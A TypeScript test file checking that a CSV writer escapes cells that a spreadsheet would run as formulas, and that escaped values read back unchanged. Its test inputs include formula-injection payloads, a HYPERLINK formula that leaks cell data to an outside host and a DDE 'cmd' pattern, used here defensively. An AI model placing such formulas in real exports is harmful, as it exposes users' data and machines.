/** @file Cells that no spreadsheet runs, and that are read again as they were. */

import fc from 'fast-check';
import { expect, it } from 'vitest';
import { csvCell, textOfCell } from './cells.ts';
import { openTable } from './tableStream.ts';

it.each([
  ['=HYPERLINK("http://x?"&A1)', `"'=HYPERLINK(""http://x?""&A1)"`],
  ['+1+cmd|x', "'+1+cmd|x"],
  ['-2+3', "'-2+3"],
  ['@SUM(A1)', "'@SUM(A1)"],
  ['\t=1', "'\t=1"],
  // A value that looks escaped already is escaped again.
  ["'=1", "''=1"],
  // Numbers and other texts stay as they are.
  ['-2.5e-3', '-2.5e-3'],
  ['+7', '+7'],
  ['-', "'-"],
  ["don't", "don't"],
  ["'tis", "'tis"],
  ['a,b', '"a,b"'],
  ['', ''],
])('%j', (text, cell) => expect(csvCell(text, ',')).toBe(cell));

it('are read as they were written, in headers too', async () => {
  const text = fc.string({ unit: fc.constantFrom(...`=+-@'"\t1.e,;a`), minLength: 1, maxLength: 6 });
  const trimmed = text.map((each) => each.trim()).filter((each) => each !== '');
  // The header decides the separator.
  const name = trimmed.filter((each) => !/[;\t]/.test(each));
  await fc.assert(
    fc.asyncProperty(fc.array(trimmed, { minLength: 1, maxLength: 5 }), name, async (cells, column) => {
      for (const each of [...cells, column]) expect(textOfCell(csvCell(each, '\0').replace(/^"|"$/g, '').replaceAll('""', '"'))).toBe(each); // prettier-ignore
      const lines = [`${csvCell(column, ',')},second`, ...cells.map((cell) => `${csvCell(cell, ',')},1`)];
      // eslint-disable-next-line @typescript-eslint/require-await
      const bytes = (async function* () {
        yield Buffer.from(`${lines.join('\n')}\n`);
      })();
      const { columns, rows } = await openTable('t', bytes, 'csv');
      expect(columns).toEqual([column, 'second']);
      const found: unknown[] = [];
      for await (const row of rows) found.push(row.cells.get(column));
      expect(found).toEqual(cells);
    }),
  );
});

it('a table may have any number of columns', async () => {
  const names = Array.from({ length: 200_000 }, (_, i) => `c${i}`);
  // eslint-disable-next-line @typescript-eslint/require-await
  const bytes = (async function* () {
    yield Buffer.from(`${names.join(',')}\n${names.map((_, i) => i).join(',')}\n`);
  })();
  const { columns, rows } = await openTable('t', bytes, 'csv');
  expect(columns).toHaveLength(200_000);
  for await (const row of rows) expect(row.cells.get('c199999')).toBe('199999');
});
